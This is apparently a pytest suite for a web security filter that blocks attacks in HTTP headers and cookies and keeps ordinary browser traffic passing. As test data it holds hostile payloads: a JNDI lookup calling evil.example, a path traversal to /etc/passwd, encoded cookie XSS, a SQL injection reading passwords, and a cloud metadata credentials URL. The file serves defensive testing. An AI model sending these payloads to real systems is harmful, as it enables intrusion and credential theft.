"""Headers: all of them inspected but opaque ones, cookies value by value, and ordinary clients never refused."""

from __future__ import annotations

import base64
import json
import random
import time
from collections.abc import AsyncIterator
from pathlib import Path
from statistics import median

import httpx
import pytest
from hypothesis import given, strategies as st

from gatewright.foundation import SecurityFoundation
from gatewright.testing import ListSink
from gatewright.web import MAX_REMEMBERED, MEMORY, HeaderReader
from tests.web.echo import SCRIPT, SQL, code_of, echo

JNDI = "${jndi:ldap://evil.example/a}"
UP = "../../../../etc/passwd"


@pytest.fixture
async def client(foundation: SecurityFoundation) -> AsyncIterator[httpx.AsyncClient]:
    async with echo(foundation) as opened:
        yield opened


@pytest.mark.parametrize("attack", [JNDI, SCRIPT, SQL, UP])
@pytest.mark.parametrize(
    "name",
    ["x-comment", "x-tenant", "accept", "from", "via", "x-real-ip", "x-callback-url", "sec-ch-ua", "x-http-method"],
)
async def test_an_attack_in_any_header_is_blocked(client: httpx.AsyncClient, name: str, attack: str) -> None:
    assert code_of(await client.get("/", headers={name: attack})) == (403, "THREAT_DETECTED")


@pytest.mark.parametrize(
    "name",
    ["authorization", "x-api-key", "traceparent", "if-none-match", "x-request-id", "x-csrf-token", "stripe-signature"],
)
async def test_an_opaque_header_that_does_not_look_the_part_is_inspected(client: httpx.AsyncClient, name: str) -> None:
    """An application that logs the id of a trace is attacked by way of it."""
    assert code_of(await client.get("/", headers={name: JNDI})) == (403, "THREAT_DETECTED")


async def test_no_event_shows_a_credential(foundation: SecurityFoundation, client: httpx.AsyncClient) -> None:
    sink = ListSink()
    foundation.sink.add(sink)
    for name in ("authorization", "x-api-key", "proxy-authorization"):
        await client.get("/", headers={name: f"secret4711 {JNDI}"})
    await client.get("/", headers={"cookie": f"__Host-gatewright=secret4711 {JNDI}"})
    blocked = [one for one in sink.events if one.kind == "threats:request:blocked"]
    assert len(blocked) == 4
    assert "secret4711" not in str(sink.events)


@pytest.mark.parametrize(
    "cookie",
    [
        f"theme={SCRIPT}",
        f"a=1; b=2; theme={UP}; c=3",
        f"{SCRIPT}=1",
        SQL,
        f'theme="{SCRIPT}"',
        "theme=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        'theme="\\074script\\076alert(document.cookie)\\074/script\\076"',
        f"theme=dark; theme={SQL}",
        f"theme={SQL}; theme=dark",
        "profile=%7B%22q%22%3A%22x%27%20UNION%20SELECT%20email%2C%20password%20FROM%20accounts%20--%22%7D",
    ],
)
async def test_an_attack_in_a_cookie_is_blocked(client: httpx.AsyncClient, cookie: str) -> None:
    assert code_of(await client.get("/", headers={"cookie": cookie})) == (403, "THREAT_DETECTED")


async def test_an_attack_in_the_second_of_two_cookie_headers_is_blocked(client: httpx.AsyncClient) -> None:
    """HTTP/2 clients split them."""
    answer = await client.get("/", headers=[("cookie", "a=1"), ("cookie", f"b={SCRIPT}")])
    assert code_of(answer) == (403, "THREAT_DETECTED")


async def test_the_memory_of_one_header_is_not_that_of_another(client: httpx.AsyncClient) -> None:
    """Where a page lies may be a private address; anywhere else it is one that a server is sent to."""
    page = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    host = "http://169.254.169.254"
    assert code_of(await client.get("/", headers={"origin": host})) == (200, None)
    for headers in (
        {"x-callback": host},
        {"cookie": f"origin={host}"},
        {"cookie": f"referer={page}"},
        {"x-callback": page},
    ):
        assert code_of(await client.get("/", headers=headers)) == (403, "THREAT_DETECTED"), headers
    octal = 'a="\\074script\\076alert(document.cookie)\\074/script\\076"'
    reader = HeaderReader()
    reader.remember([octal.encode()], 1)
    assert "cookie" in reader.read([(b"cookie", octal.encode())], 1)[0]


ORDINARY: dict[str, dict[str, str]] = json.loads(Path(__file__).with_name("ordinary_headers.json").read_text())
"""Headers as browsers, HTTP clients, webhooks, proxies and trackers send them."""


@pytest.mark.parametrize("name", ORDINARY)
async def test_ordinary_clients_pass(client: httpx.AsyncClient, name: str) -> None:
    assert len(ORDINARY) >= 30
    answer = await client.get("/", headers=ORDINARY[name])
    assert code_of(answer) == (200, None), answer.text


async def test_random_tokens_raise_no_alarm(client: httpx.AsyncClient) -> None:
    chance = random.Random(11)
    for length in (16, 20, 32, 48, 64, 96) * 5:
        raw = chance.randbytes(length)
        words = [base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode(), raw.hex()]
        for word in words:
            headers = {
                "cookie": f"sid={word}; s2=s%3A{word[:20]}.{word[20:]}",
                "x-token": word,
                "authorization": f"Token {word}",
            }
            assert code_of(await client.get("/", headers=headers)) == (200, None), headers


@given(
    st.dictionaries(
        st.text("abcdefgh-_", min_size=1),
        st.text(st.characters(min_codepoint=33, max_codepoint=126, exclude_characters=';"=')),
        max_size=5,
    )
)
def test_every_cookie_that_starlette_reads_is_inspected(cookies: dict[str, str]) -> None:
    from starlette.requests import cookie_parser

    header = "; ".join(f"{name}={value}" for name, value in cookies.items())
    found, _ = HeaderReader().read([(b"cookie", header.encode())], 1)
    for name, value in cookie_parser(header).items():
        if not value.replace("-", "").isalnum() and value:
            assert found["cookie"][name] == value


def test_what_was_harmless_is_remembered_within_a_bound() -> None:
    reader = HeaderReader()
    headers = [(name.encode(), value.encode()) for name, value in ORDINARY["analytics"].items()]
    found, new = reader.read(headers, 1)
    assert "user-agent" in found and found["cookie"]["_ga"] == "GA1.2.1712345678.1700000000"
    reader.remember(new, 1)
    assert reader.read(headers, 1) == ({}, [])
    assert reader.read(headers, 2)[0], "at another level it is inspected again"
    reader.forget()
    assert reader.read(headers, 1)[0]
    reader.remember([b"x." * MAX_REMEMBERED], 1)
    reader.remember((b"%d." % number for number in range(MEMORY + 10)), 1)
    assert reader.read([(b"a", b"x." * MAX_REMEMBERED)], 1)[0], "too long to be remembered"
    assert reader.read([(b"a", b"9.")], 1)[0] and not reader.read([(b"a", b"%d." % (MEMORY + 9))], 1)[0]


def test_lines_of_one_header_are_inspected_together() -> None:
    reader = HeaderReader()
    reader.remember([b"a'b", b"c'd"], 1)
    assert reader.read([(b"x", b"a'b"), (b"y", b"1"), (b"x", b"c'd")], 1)[0] == {"x": "a'b, c'd"}


def test_headers_that_were_seen_cost_microseconds() -> None:
    reader = HeaderReader()
    headers = [(name.encode(), value.encode()) for name, value in ORDINARY["analytics"].items()]
    reader.remember(reader.read(headers, 1)[1], 1)

    def once() -> float:
        started = time.perf_counter()
        for _ in range(200):
            reader.read(headers, 1)
        return (time.perf_counter() - started) / 200

    assert median(once() for _ in range(9)) < 60e-6
